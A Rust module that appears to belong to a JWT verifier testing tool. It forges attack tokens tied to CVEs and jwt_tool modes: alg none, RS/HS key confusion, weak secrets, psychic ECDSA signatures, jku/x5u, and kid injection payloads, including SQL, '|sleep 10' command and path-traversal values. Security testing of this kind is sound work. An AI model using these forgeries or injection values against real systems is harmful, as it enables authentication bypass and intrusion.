//! Forgers: the JWT attack stimuli of spec §1.5 (and the structural rows of §1.4), produced
//! exactly as a well-behaved JOSE library would refuse to produce them.
//!
//! Attacks are data: [`Attack`] names each one with a description and its provenance (CVE,
//! bug type, jwt_tool mode); [`Attack::catalogue`] lists every instance; [`Attack::forge`]
//! builds it from a [`ForgeContext`] (the victim AS key, an attacker key, a listener URL and
//! the valid token spec `V`). Post-signing changes are [`Tamper`] steps.

mod tamper;

pub use tamper::{Tamper, tamper};

use serde_json::json;

use crate::alg::{Algorithm, EcCurve, KeyFamily};
use crate::der;
use crate::ecdsa;
use crate::jwk::JwkKey;
use crate::jws::{self, Segment};
use crate::keys::SigningKey;
use crate::token::TokenSpec;

/// What a forger works from.
#[derive(Debug, Clone, Copy)]
pub struct ForgeContext<'a> {
    /// The AS key the target trusts (its `kid` is the victim kid).
    pub victim: &'a SigningKey,
    /// A key the target must not trust (e.g. the rogue issuer's).
    pub attacker: &'a SigningKey,
    /// A URL under the tool's control, for `jku`/`x5u`.
    pub listener_url: &'a str,
    /// The valid token `V` as a spec; forgers change only what their attack needs.
    pub spec: &'a TokenSpec,
}

/// Why an attack does not apply to the given keys.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{attack} does not apply: {reason}")]
pub struct NotApplicable {
    pub attack: String,
    pub reason: &'static str,
}

/// Where an attack comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Provenance {
    pub cves: &'static [&'static str],
    pub bug_type: &'static str,
    /// jwt_tool mode or other catalogue reference, when one exists.
    pub reference: &'static str,
}

/// Byte forms of a public key used as an HMAC secret (RS/HS confusion).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PublicKeyForm {
    SpkiPem,
    SpkiPemNoTrailingNewline,
    /// RSA only: `-----BEGIN RSA PUBLIC KEY-----`.
    Pkcs1Pem,
    SpkiDer,
    JwkJson,
    /// RSA: the modulus `n`; EC: the uncompressed point.
    Raw,
}

impl PublicKeyForm {
    pub const ALL: [PublicKeyForm; 6] = [
        PublicKeyForm::SpkiPem,
        PublicKeyForm::SpkiPemNoTrailingNewline,
        PublicKeyForm::Pkcs1Pem,
        PublicKeyForm::SpkiDer,
        PublicKeyForm::JwkJson,
        PublicKeyForm::Raw,
    ];
}

/// Which ECDSA scalar an out-of-range forgery breaks, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ScalarDefect {
    RIsZero,
    SIsZero,
    RIsOrder,
    SIsOrder,
}

/// Malformed `crit` forms.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CritForm {
    /// `crit:["x-foo"]` with `x-foo:1`: an extension the verifier cannot understand.
    Unknown,
    Empty,
    /// `crit:["alg"]`: a registered parameter.
    Registered,
    /// `crit:["x-absent"]` without such a header.
    Absent,
}

/// Structural defects of the compact form (spec §1.4 rs-not-a-jwt and relatives).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Structure {
    Padding,
    StandardAlphabet,
    LineBreak,
    TwoSegments,
    FourSegments,
    CutInHalf,
    EmptyMiddleSegment,
    JwsJsonSerialization,
    /// A 5-part string shaped like a compact JWE with an unknown key.
    JweShaped,
    /// 32 random bytes, base64url.
    Random,
}

/// One JWT attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Attack {
    /// `alg` set to a spelling of `none`; signature emptied or kept.
    AlgNone {
        spelling: &'static str,
        keep_signature: bool,
    },
    /// `header.payload.` with the original `alg`.
    SignatureStripped,
    /// The last 4 signature characters changed.
    SignatureBroken,
    /// `alg: HS256`, MACed with the victim's public key bytes.
    HmacWithPublicKey(PublicKeyForm),
    /// `alg: HS256` with an empty secret.
    HmacEmptySecret,
    /// `alg: HS256` with a guessable secret.
    HmacWeakSecret(&'static str),
    /// ECDSA r = s = 0, raw (64/96 zero bytes) or DER (`MAYCAQACAQA`).
    PsychicSignature { der: bool },
    /// ECDSA r or s outside [1, n−1].
    ScalarOutOfRange(ScalarDefect),
    /// A valid signature with s replaced by n − s.
    HighS,
    /// The valid signature DER-encoded instead of R‖S.
    DerSignature,
    /// The valid signature cut to 63 bytes.
    SignatureTruncated,
    /// The valid signature plus 16 trailing bytes.
    SignatureTrailingBytes,
    /// An ES384-sized (96 byte) signature on an ES256 token.
    SignatureWrongCurveSize,
    /// Header `jwk` = attacker key, signed by it; `kid` removed or set to the victim's.
    EmbeddedJwk { keep_victim_kid: bool },
    /// Header `jku` = listener URL, signed by the attacker key with its kid.
    Jku,
    /// Header `x5u` = listener URL, signed by the attacker key with its kid.
    X5u,
    /// A hostile `kid`, HS256 with the given secret.
    KidInjection {
        kid: &'static str,
        secret: &'static [u8],
    },
    /// Malformed or unknown `crit`, validly signed by the victim.
    Crit(CritForm),
    /// The victim's `kid` with `alg: HS256` (MACed with its SPKI PEM).
    KidWithHmac,
    /// The victim's `kid` with an algorithm of another key type, signed by the attacker.
    KidWithOtherKeyType,
    /// RS256 ↔ PS256 with the same RSA key.
    RsaFamilySwitch,
    /// Header `{"alg":<victim alg>,…,"alg":"none"}` with an empty signature.
    DuplicateAlgNone,
    /// Claims with `aud` twice: the right audience, then another; validly signed.
    DuplicateAud { other: &'static str },
    /// A compact-form defect.
    Malformed(Structure),
    /// An outer JWS signed by the attacker (`cty: JWT`) around a valid token.
    NestedAttackerOuter,
    /// An outer JWS signed by the victim around an unsigned inner token.
    NestedUnsignedInner,
}

/// `kid` injection payloads (jwt_tool playbook; spec rs-kid-injection).
pub const KID_INJECTIONS: [(&str, &[u8]); 8] = [
    ("", b""),
    ("../../../../../../dev/null", b""),
    ("../../../../../../dev/null", b"\0"),
    ("/dev/null", b""),
    ("/dev/null", b"\0"),
    ("x' UNION SELECT '1';--", b"1"),
    ("|sleep 10", b""),
    ("/invalid_path", b""),
];

/// The first entries of a common-secret wordlist (rs-weak-hmac-secret).
pub const WEAK_SECRETS: [&str; 6] = ["secret", "password", "123456", "changeme", "jwt", "key"];

impl Attack {
    /// Every attack instance, in a stable order.
    pub fn catalogue() -> Vec<Attack> {
        let mut all = Vec::new();
        for spelling in ["none", "None", "NONE", "nOnE"] {
            for keep_signature in [false, true] {
                all.push(Attack::AlgNone {
                    spelling,
                    keep_signature,
                });
            }
        }
        all.extend([Attack::SignatureStripped, Attack::SignatureBroken]);
        all.extend(PublicKeyForm::ALL.map(Attack::HmacWithPublicKey));
        all.push(Attack::HmacEmptySecret);
        all.extend(WEAK_SECRETS.map(Attack::HmacWeakSecret));
        all.extend([
            Attack::PsychicSignature { der: false },
            Attack::PsychicSignature { der: true },
        ]);
        all.extend(
            [
                ScalarDefect::RIsZero,
                ScalarDefect::SIsZero,
                ScalarDefect::RIsOrder,
                ScalarDefect::SIsOrder,
            ]
            .map(Attack::ScalarOutOfRange),
        );
        all.extend([
            Attack::HighS,
            Attack::DerSignature,
            Attack::SignatureTruncated,
            Attack::SignatureTrailingBytes,
            Attack::SignatureWrongCurveSize,
            Attack::EmbeddedJwk {
                keep_victim_kid: false,
            },
            Attack::EmbeddedJwk {
                keep_victim_kid: true,
            },
            Attack::Jku,
            Attack::X5u,
        ]);
        all.extend(
            KID_INJECTIONS
                .iter()
                .map(|&(kid, secret)| Attack::KidInjection { kid, secret }),
        );
        all.extend(
            [
                CritForm::Unknown,
                CritForm::Empty,
                CritForm::Registered,
                CritForm::Absent,
            ]
            .map(Attack::Crit),
        );
        all.extend([
            Attack::KidWithHmac,
            Attack::KidWithOtherKeyType,
            Attack::RsaFamilySwitch,
            Attack::DuplicateAlgNone,
            Attack::DuplicateAud {
                other: "https://other.test/mcp",
            },
        ]);
        all.extend(
            [
                Structure::Padding,
                Structure::StandardAlphabet,
                Structure::LineBreak,
                Structure::TwoSegments,
                Structure::FourSegments,
                Structure::CutInHalf,
                Structure::EmptyMiddleSegment,
                Structure::JwsJsonSerialization,
                Structure::JweShaped,
                Structure::Random,
            ]
            .map(Attack::Malformed),
        );
        all.extend([Attack::NestedAttackerOuter, Attack::NestedUnsignedInner]);
        all
    }

    /// A short stable name, e.g. `alg-none-NONE-kept-sig`.
    pub fn name(&self) -> String {
        match self {
            Attack::AlgNone {
                spelling,
                keep_signature,
            } => format!(
                "alg-{spelling}-{}",
                if *keep_signature {
                    "kept-sig"
                } else {
                    "empty-sig"
                }
            ),
            Attack::SignatureStripped => "signature-stripped".into(),
            Attack::SignatureBroken => "signature-broken".into(),
            Attack::HmacWithPublicKey(form) => format!("hs256-public-key-{form:?}"),
            Attack::HmacEmptySecret => "hs256-empty-secret".into(),
            Attack::HmacWeakSecret(s) => format!("hs256-weak-secret-{s}"),
            Attack::PsychicSignature { der } => {
                format!("psychic-signature{}", if *der { "-der" } else { "" })
            }
            Attack::ScalarOutOfRange(d) => format!("ecdsa-{d:?}"),
            Attack::HighS => "ecdsa-high-s".into(),
            Attack::DerSignature => "ecdsa-der".into(),
            Attack::SignatureTruncated => "signature-truncated".into(),
            Attack::SignatureTrailingBytes => "signature-trailing-bytes".into(),
            Attack::SignatureWrongCurveSize => "signature-wrong-curve-size".into(),
            Attack::EmbeddedJwk { keep_victim_kid } => format!(
                "embedded-jwk{}",
                if *keep_victim_kid {
                    "-victim-kid"
                } else {
                    "-no-kid"
                }
            ),
            Attack::Jku => "jku".into(),
            Attack::X5u => "x5u".into(),
            Attack::KidInjection { kid, secret } => format!("kid-injection-{kid:?}-{secret:?}"),
            Attack::Crit(form) => format!("crit-{form:?}"),
            Attack::KidWithHmac => "kid-with-hs256".into(),
            Attack::KidWithOtherKeyType => "kid-with-other-key-type".into(),
            Attack::RsaFamilySwitch => "rsa-family-switch".into(),
            Attack::DuplicateAlgNone => "duplicate-alg-none".into(),
            Attack::DuplicateAud { .. } => "duplicate-aud".into(),
            Attack::Malformed(s) => format!("malformed-{s:?}"),
            Attack::NestedAttackerOuter => "nested-attacker-outer".into(),
            Attack::NestedUnsignedInner => "nested-unsigned-inner".into(),
        }
    }

    /// Where the attack comes from.
    pub fn provenance(&self) -> Provenance {
        let p = |cves, bug_type, reference| Provenance {
            cves,
            bug_type,
            reference,
        };
        match self {
            Attack::AlgNone { .. } | Attack::DuplicateAlgNone => p(
                &["CVE-2015-2951"],
                "unsigned token accepted",
                "jwt_tool -X a",
            ),
            Attack::SignatureStripped => p(
                &["CVE-2020-28042"],
                "null signature accepted",
                "jwt_tool -X n",
            ),
            Attack::SignatureBroken => p(&[], "signature not checked", "jwt_tool playbook"),
            Attack::HmacWithPublicKey(_) | Attack::KidWithHmac => p(
                &["CVE-2016-10555"],
                "algorithm confusion (RS/HS)",
                "jwt_tool -X k",
            ),
            Attack::HmacEmptySecret => p(
                &["CVE-2019-20933", "CVE-2020-28637"],
                "blank HMAC secret",
                "jwt_tool -X b",
            ),
            Attack::HmacWeakSecret(_) => p(&[], "weak HMAC secret", "jwt_tool jwt-common.txt"),
            Attack::PsychicSignature { .. } | Attack::ScalarOutOfRange(_) => p(
                &["CVE-2022-21449"],
                "ECDSA range check missing",
                "SEC1 §4.1.4",
            ),
            Attack::HighS => p(&[], "ECDSA malleability", "RFC 7518 §3.4"),
            Attack::DerSignature
            | Attack::SignatureTruncated
            | Attack::SignatureTrailingBytes
            | Attack::SignatureWrongCurveSize => {
                p(&[], "ECDSA signature encoding", "RFC 7518 §3.4")
            }
            Attack::EmbeddedJwk { .. } => {
                p(&["CVE-2018-0114"], "header key trusted", "jwt_tool -X i")
            }
            Attack::Jku | Attack::X5u => p(&[], "header key URL trusted (SSRF)", "jwt_tool -X s"),
            Attack::KidInjection { .. } => p(&[], "kid injection", "jwt_tool playbook"),
            Attack::Crit(_) => p(&[], "crit not enforced", "RFC 7515 §4.1.11"),
            Attack::KidWithOtherKeyType | Attack::RsaFamilySwitch => {
                p(&[], "one key, several algorithms", "RFC 8725 §3.1")
            }
            Attack::DuplicateAud { .. } => {
                p(&[], "duplicate member parser differential", "RFC 7519 §4")
            }
            Attack::Malformed(_) => p(&[], "lenient compact parsing", "RFC 7515 §7.1"),
            Attack::NestedAttackerOuter | Attack::NestedUnsignedInner => {
                p(&[], "nested JWT layer unchecked", "RFC 8725 §3.3")
            }
        }
    }

    fn not_applicable(&self, reason: &'static str) -> NotApplicable {
        NotApplicable {
            attack: self.name(),
            reason,
        }
    }

    /// Builds the forged token.
    pub fn forge(&self, ctx: &ForgeContext) -> Result<String, NotApplicable> {
        let victim = ctx.victim;
        let valid = || ctx.spec.mint(victim);
        let ec_curve = || match victim.alg().key_family() {
            KeyFamily::Ec(c) => Ok(c),
            _ => Err(self.not_applicable("needs an ECDSA victim key")),
        };
        let hmac = |spec: TokenSpec, secret: &[u8]| {
            spec.alg("HS256")
                .mint(&SigningKey::hmac(secret).with_kid(victim.kid().unwrap_or_default()))
        };
        Ok(match self {
            Attack::AlgNone {
                spelling,
                keep_signature,
            } => {
                let token = ctx.spec.clone().alg(spelling).mint(victim);
                if *keep_signature {
                    token
                } else {
                    tamper(&token, &Tamper::StripSignature)
                }
            }
            Attack::SignatureStripped => tamper(&valid(), &Tamper::StripSignature),
            Attack::SignatureBroken => tamper(&valid(), &Tamper::BreakSignature),
            Attack::HmacWithPublicKey(form) => {
                let secret = public_key_bytes(victim, *form).ok_or_else(|| {
                    self.not_applicable("this byte form does not exist for the key type")
                })?;
                hmac(ctx.spec.clone(), &secret)
            }
            Attack::HmacEmptySecret => hmac(ctx.spec.clone(), b""),
            Attack::HmacWeakSecret(secret) => hmac(ctx.spec.clone(), secret.as_bytes()),
            Attack::PsychicSignature { der } => {
                let len = 2 * ec_curve()?.coordinate_len();
                let zeros = vec![0u8; len];
                let sig = if *der {
                    ecdsa::raw_to_der(&zeros)
                } else {
                    zeros
                };
                tamper(&valid(), &Tamper::SetSignature(sig))
            }
            Attack::ScalarOutOfRange(defect) => {
                let curve = ec_curve()?;
                let token = valid();
                let sig = jws::Jws::parse(&token)
                    .expect("own token parses")
                    .signature()
                    .to_vec();
                let (r, s) = sig.split_at(curve.coordinate_len());
                let n = ecdsa::curve_order(curve);
                let zero = vec![0u8; curve.coordinate_len()];
                let forged = match defect {
                    ScalarDefect::RIsZero => [zero.as_slice(), s].concat(),
                    ScalarDefect::SIsZero => [r, zero.as_slice()].concat(),
                    ScalarDefect::RIsOrder => [n.as_slice(), s].concat(),
                    ScalarDefect::SIsOrder => [r, n.as_slice()].concat(),
                };
                tamper(&token, &Tamper::SetSignature(forged))
            }
            Attack::HighS => tamper(&valid(), &Tamper::FlipS(ec_curve()?)),
            Attack::DerSignature => {
                ec_curve()?;
                tamper(&valid(), &Tamper::DerSignature)
            }
            Attack::SignatureTruncated => {
                ec_curve()?;
                tamper(&valid(), &Tamper::TruncateSignature(63))
            }
            Attack::SignatureTrailingBytes => {
                tamper(&valid(), &Tamper::AppendToSignature(vec![0xA5; 16]))
            }
            Attack::SignatureWrongCurveSize => {
                if ec_curve()? != EcCurve::P256 {
                    return Err(self.not_applicable("needs an ES256 victim key"));
                }
                tamper(&valid(), &Tamper::AppendToSignature(vec![0x01; 32]))
            }
            Attack::EmbeddedJwk { keep_victim_kid } => {
                let spec = ctx.spec.clone().jwk(&ctx.attacker.public_jwk());
                let spec = if *keep_victim_kid {
                    spec.kid(victim.kid().unwrap_or_default())
                } else {
                    spec.without_header("kid")
                };
                spec.mint(ctx.attacker)
            }
            Attack::Jku => ctx.spec.clone().jku(ctx.listener_url).mint(ctx.attacker),
            Attack::X5u => ctx.spec.clone().x5u(ctx.listener_url).mint(ctx.attacker),
            Attack::KidInjection { kid, secret } => ctx
                .spec
                .clone()
                .alg("HS256")
                .kid(kid)
                .mint(&SigningKey::hmac(secret)),
            Attack::Crit(form) => {
                let spec = ctx.spec.clone();
                let spec = match form {
                    CritForm::Unknown => spec.crit(&["x-foo"]).header("x-foo", 1),
                    CritForm::Empty => spec.crit(&[]),
                    CritForm::Registered => spec.crit(&["alg"]),
                    CritForm::Absent => spec.crit(&["x-absent"]),
                };
                spec.mint(victim)
            }
            Attack::KidWithHmac => hmac(
                ctx.spec.clone(),
                &public_key_bytes(victim, PublicKeyForm::SpkiPem).unwrap_or_default(),
            ),
            Attack::KidWithOtherKeyType => {
                if ctx.attacker.alg().key_family() == victim.alg().key_family() {
                    return Err(self.not_applicable("needs an attacker key of another key type"));
                }
                ctx.spec
                    .clone()
                    .kid(victim.kid().unwrap_or_default())
                    .mint(ctx.attacker)
            }
            Attack::RsaFamilySwitch => {
                let other = match victim.alg() {
                    Algorithm::Rs256 => "PS256",
                    Algorithm::Ps256 => "RS256",
                    _ => return Err(self.not_applicable("needs an RSA victim key")),
                };
                ctx.spec.clone().alg(other).mint(victim)
            }
            Attack::DuplicateAlgNone => ctx
                .spec
                .clone()
                .alg(victim.alg().name())
                .duplicate_header("alg", "none")
                .unsigned(victim),
            Attack::DuplicateAud { other } => {
                ctx.spec.clone().duplicate_claim("aud", *other).mint(victim)
            }
            Attack::Malformed(structure) => malformed(&valid(), *structure),
            Attack::NestedAttackerOuter => {
                let outer = json!({"alg": ctx.attacker.alg().name(), "cty": "JWT"});
                jws::sign_raw(
                    outer.to_string().as_bytes(),
                    valid().as_bytes(),
                    ctx.attacker,
                )
            }
            Attack::NestedUnsignedInner => {
                let inner = ctx.spec.clone().alg("none").unsigned(victim);
                let mut outer = json!({"alg": victim.alg().name(), "cty": "JWT"});
                if let Some(kid) = victim.kid() {
                    outer["kid"] = json!(kid);
                }
                jws::sign_raw(outer.to_string().as_bytes(), inner.as_bytes(), victim)
            }
        })
    }
}

fn malformed(token: &str, structure: Structure) -> String {
    let step = match structure {
        Structure::Padding => Tamper::PadSegment(Segment::Payload),
        Structure::StandardAlphabet => Tamper::StandardAlphabet(Segment::Signature),
        Structure::LineBreak => Tamper::LineBreak,
        Structure::TwoSegments => Tamper::TwoSegments,
        Structure::FourSegments => Tamper::FourSegments,
        Structure::CutInHalf => Tamper::CutInHalf,
        Structure::EmptyMiddleSegment => Tamper::EmptyMiddleSegment,
        Structure::JwsJsonSerialization => Tamper::AsJwsJson,
        Structure::JweShaped => {
            let header = crate::b64::encode(r#"{"alg":"RSA-OAEP-256","enc":"A256GCM"}"#);
            let part = |n: usize| crate::random_b64url(n);
            return format!(
                "{header}.{}.{}.{}.{}",
                part(256),
                part(12),
                part(64),
                part(16)
            );
        }
        Structure::Random => return crate::random_b64url(32),
    };
    tamper(token, &step)
}

/// The public key of `key` in the given byte form (`None` where the form does not exist).
pub fn public_key_bytes(key: &SigningKey, form: PublicKeyForm) -> Option<Vec<u8>> {
    let spki = key.public_key_spki_der()?;
    let pem_of = |tag: &str, der: Vec<u8>| {
        pem::encode_config(
            &pem::Pem::new(tag, der),
            pem::EncodeConfig::new().set_line_ending(pem::LineEnding::LF),
        )
    };
    let jwk = key.public_jwk();
    match form {
        PublicKeyForm::SpkiPem => Some(pem_of("PUBLIC KEY", spki).into_bytes()),
        PublicKeyForm::SpkiPemNoTrailingNewline => {
            Some(pem_of("PUBLIC KEY", spki).trim_end().as_bytes().to_vec())
        }
        PublicKeyForm::Pkcs1Pem => {
            if !matches!(jwk.key, JwkKey::Rsa { .. }) {
                return None;
            }
            Some(pem_of("RSA PUBLIC KEY", spki_subject_public_key(&spki)?).into_bytes())
        }
        PublicKeyForm::SpkiDer => Some(spki),
        PublicKeyForm::JwkJson => Some(jwk.to_public().to_json().to_string().into_bytes()),
        PublicKeyForm::Raw => match &jwk.key {
            JwkKey::Rsa { n, .. } => Some(n.clone()),
            JwkKey::Ec { x, y, .. } => Some([&[0x04][..], x, y].concat()),
            JwkKey::Okp { x, .. } => Some(x.clone()),
            JwkKey::Oct { .. } => None,
        },
    }
}

/// The BIT STRING contents of a SubjectPublicKeyInfo (for RSA: the PKCS#1 RSAPublicKey).
fn spki_subject_public_key(spki: &[u8]) -> Option<Vec<u8>> {
    let (body, _) = der::take(spki, 0x30)?;
    let (_, rest) = der::take(body, 0x30)?;
    let (bits, _) = der::take(rest, 0x03)?;
    let (&unused, key) = bits.split_first()?;
    (unused == 0).then(|| key.to_vec())
}

#[cfg(test)]
mod tests;
